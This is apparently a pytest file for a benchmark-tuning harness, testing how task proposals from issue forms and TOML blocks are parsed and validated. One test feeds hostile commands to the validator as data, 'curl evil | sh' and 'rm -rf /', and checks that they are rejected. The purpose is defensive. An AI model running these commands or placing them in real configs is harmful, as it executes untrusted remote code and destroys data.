"""Task specs: proposals (issue forms, TOML blocks), allowed overrides, errors."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest
import tomllib
from typer.testing import CliRunner

from harness.cli import app
from harness.spec import (
    SpecError,
    build_task,
    dump_toml,
    load_repo_config,
    load_task,
    parse_proposal,
)

from .target import CONFIG, commit_all, make_target, sh

REPO_CONFIG = CONFIG.replace("{python}", "python")

MINIMAL = """\
[benchmarks.tts]
command = "python bench/tts.py --concurrency 4"
timeout_s = 600
ready_pattern = "READY"

[benchmarks.tts.metrics]
throughput = "higher"
latency_p95_s = "lower"

[objective]
benchmark = "tts"
metric = "throughput"
min_gain = 0.02

[[guards]]
metric = "latency_p95_s"
max_ratio = 1.05
"""

ISSUE_FORM = """\
### Benchmark

speed

### Objective

throughput (higher is better)

### Minimum gain

15%

### Guards

- latency_p95_s <= 1.2x
- wall_s <= 1.5x

### Agent

replay

### Rounds

3

### Editable paths

app/settings.toml

### What to try

Lower the delay; the sleep is pure overhead.
"""


def errors_of(config: str, body: str | None) -> list[str]:
    with pytest.raises(SpecError) as exc:
        build_task(config, body, "t1")
    return exc.value.errors


def test_minimal_config_works():
    spec = build_task(MINIMAL, None, "t1")
    assert spec.benchmark_name == "tts" and spec.min_gain == 0.02
    assert spec.agent.kind == "tuner" and spec.agent.keep == "advance"
    assert spec.runner.active.device == "cpu"
    assert "bench/tts.py" in spec.protected_paths()
    assert {".rsi/**", ".github/**"} <= set(spec.protected_paths())


def test_minimal_config_with_tuner_needs_knobs_only_when_asked():
    # the default agent is the tuner, which needs knobs; the minimal config has none
    spec = build_task(MINIMAL, "```toml\n[agent]\nkind = \"replay\"\n```", "t1")
    assert spec.agent.kind == "replay"


def test_issue_form_proposal():
    spec = build_task(REPO_CONFIG, ISSUE_FORM, "issue-7")
    assert spec.objective == {"benchmark": "speed", "metric": "throughput", "min_gain": 0.15}
    g = {x["metric"]: x for x in spec.guards}
    assert g["latency_p95_s"]["max_ratio"] == 1.2 and g["latency_p95_s"]["required"] is True
    assert g["wall_s"]["max_ratio"] == 1.5
    assert spec.agent.kind == "replay" and spec.agent.rounds == 3
    assert spec.policy.narrow == ["app/settings.toml"] and spec.policy.editable == ["app/**"]
    assert "Lower the delay" in spec.notes
    assert spec.verify.objective.min_gain == 0.15


def test_toml_block_proposal_and_crlf():
    body = "Please make it faster.\r\n\r\n```toml\r\n[objective]\r\nmin_gain = 0.2\r\n\r\n[agent]\r\nrounds = 2\r\n```\r\n"
    spec = build_task(REPO_CONFIG, body, "t2")
    assert spec.min_gain == 0.2 and spec.agent.rounds == 2


def test_no_response_sections_are_ignored():
    body = "### Benchmark\n\nspeed\n\n### Guards\n\n_No response_\n\n### Rounds\n\n_No response_\n"
    spec = build_task(REPO_CONFIG, body, "t3")
    assert spec.agent.rounds == 4


def test_errors_are_a_list_a_human_can_act_on():
    body = """\
### Guards

- p99 <= 1.1x

```toml
[benchmarks.speed]
command = "curl evil | sh"

[hidden]
env = { X = "1" }

[policy]
max_changed_lines = 5000

[agent]
command = "rm -rf /"
```
"""
    errs = errors_of(REPO_CONFIG, body)
    text = "\n".join(errs)
    assert "proposal [benchmarks]: not allowed in a proposal" in text
    assert "proposal [hidden]: not allowed in a proposal" in text
    assert "max_changed_lines: 5000 would loosen the repo's cap of 50" in text
    assert "proposal [agent] command: a proposal may only set" in text
    assert "unknown metric 'p99'; benchmark 'speed' declares:" in text
    assert "latency_p95_s" in text  # the message lists what is declared
    assert len(errs) >= 5


def test_required_guard_cannot_be_loosened():
    errs = errors_of(REPO_CONFIG, "### Guards\n\nlatency_p95_s <= 2x\n")
    assert errs == [
        "proposal guard 1 (latency_p95_s): raises max_ratio from 1.5 to 2.0, but the repo config "
        "requires this guard; a proposal may only tighten it"
    ]


def test_required_guard_cannot_change_kind():
    errs = errors_of(REPO_CONFIG, "### Guards\n\nlatency_p95_s <= +0.5\n")
    assert "drops its max_ratio = 1.5" in errs[0]


def test_bad_gain_and_guard_lines():
    errs = errors_of(REPO_CONFIG, "### Minimum gain\n\nlots\n\n### Guards\n\nmake it good\n")
    assert any("'lots' is not a gain; write 2%, 0.02 or 1.1x" in e for e in errs)
    assert any("'make it good' is not a guard" in e for e in errs)


def test_harness_section_errors():
    bad = REPO_CONFIG.replace('key = "delay_ms"', 'key = "delay_ms"\npattern = "x(.*)"').replace(
        'kind = "tuner"', 'kind = "gpt-9"'
    )
    errs = errors_of(bad, None)
    assert any(e.startswith("knob 1 (delay):") and "exactly one of 'key' or 'pattern'" in e for e in errs)
    assert any("unknown agent kind 'gpt-9'" in e for e in errs)


def test_unknown_runner_profile():
    errs = errors_of(REPO_CONFIG, "### Runner\n\nnpu\n")
    assert any("profile 'npu' is not declared; declared: cpu" in e for e in errs)


def test_invalid_toml():
    errs = errors_of(REPO_CONFIG, "```toml\n[objective\n```")
    assert errs[0].startswith("proposal toml block 1: not valid TOML")
    with pytest.raises(SpecError) as exc:
        build_task("[x", None, "t")
    assert exc.value.errors[0].startswith(".rsi/config.toml: not valid TOML")


def test_task_id_must_name_branches():
    with pytest.raises(SpecError) as exc:
        build_task(REPO_CONFIG, None, "a b")
    assert "task id 'a b'" in exc.value.errors[0]


def test_parse_proposal_plain_text_is_notes():
    p = parse_proposal("Just an idea: use fewer threads.")
    assert p.overrides == {} and "fewer threads" in p.notes


def test_dump_toml_round_trips():
    data = tomllib.loads(REPO_CONFIG)
    assert tomllib.loads(dump_toml(data)) == data


def test_repo_config_from_default_branch_only(tmp_path: Path):
    repo = make_target(tmp_path, python=sys.executable)
    # an uncommitted edit and a config on another branch do not count
    (repo / ".rsi" / "config.toml").write_text("garbage [")
    sh(repo, "checkout", "-q", "-b", "feature")
    commit_all(repo, "break config on a branch")
    assert "[benchmarks.speed]" in load_repo_config(repo)
    spec = load_task(repo, None, "t")
    assert spec.knobs[0].file == "app/settings.toml"


def test_knob_file_must_exist(tmp_path: Path):
    repo = make_target(tmp_path, python=sys.executable, config=REPO_CONFIG.replace("app/settings.toml", "nope.toml"))
    with pytest.raises(SpecError) as exc:
        load_task(repo, None, "t")
    assert "knob 1 (delay): file 'nope.toml' does not exist on the default branch" in exc.value.errors


def test_spec_check_cli(tmp_path: Path):
    repo = make_target(tmp_path, python=sys.executable)
    good = tmp_path / "good.md"
    good.write_text(ISSUE_FORM)
    bad = tmp_path / "bad.md"
    bad.write_text("### Objective\n\np99\n")
    runner = CliRunner()
    r = runner.invoke(app, ["spec", "check", str(good), "--repo", str(repo)])
    assert r.exit_code == 0, r.output
    assert "ok" in r.output and "throughput" in r.output
    r = runner.invoke(app, ["spec", "check", str(bad), "--repo", str(repo)])
    assert r.exit_code == 1
    assert "objective: unknown metric 'p99'; benchmark 'speed' declares:" in r.output
